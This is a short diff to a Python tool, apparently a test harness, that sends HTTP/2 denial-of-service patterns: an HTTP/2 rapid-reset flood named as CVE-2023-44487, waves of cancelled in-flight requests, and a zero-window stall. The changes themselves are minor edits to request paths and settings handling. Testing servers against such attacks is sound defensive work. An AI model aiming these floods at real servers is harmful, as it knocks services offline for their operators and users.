@@ -72,7 +72,7 @@ def rapid_reset(args, n):
     """HEADERS then RST_STREAM(CANCEL), as fast as possible (CVE-2023-44487)."""
     c = connect(args)
     c.start()
-    block = h.hpack_request("/healthz")
+    block = h.hpack_request("/healthz?tag=rapid-reset")
 
     def pair(i):
         sid = c.new_stream()
@@ -100,7 +100,7 @@ def reset_inflight(args, n):
         sids = [c.new_stream() for _ in range(args.wave)]
         if not c.send(*(h.headers(s, block, end_stream=True) for s in sids)):
             break
-        c.pump(0.05)  # the requests go upstream meanwhile
+        c.drain(0.05)  # the requests go upstream meanwhile
         if not c.send(*(h.rst_stream(s, CANCEL) for s in sids)):
             break
         sent += len(sids)
@@ -295,6 +295,7 @@ def zero_window(args, n):
     are the first frame a server sends) and watches the kernel's TCP
     state, which turns CLOSE_WAIT at the server's FIN, without reading."""
     c = connect(args)
+    c.ack_settings = False  # acknowledged once, blind, below
     c.send(h.PREFACE, h.settings({h.INITIAL_WINDOW_SIZE: 0}),
            h.settings(ack=True))
     block = h.hpack_request("/")
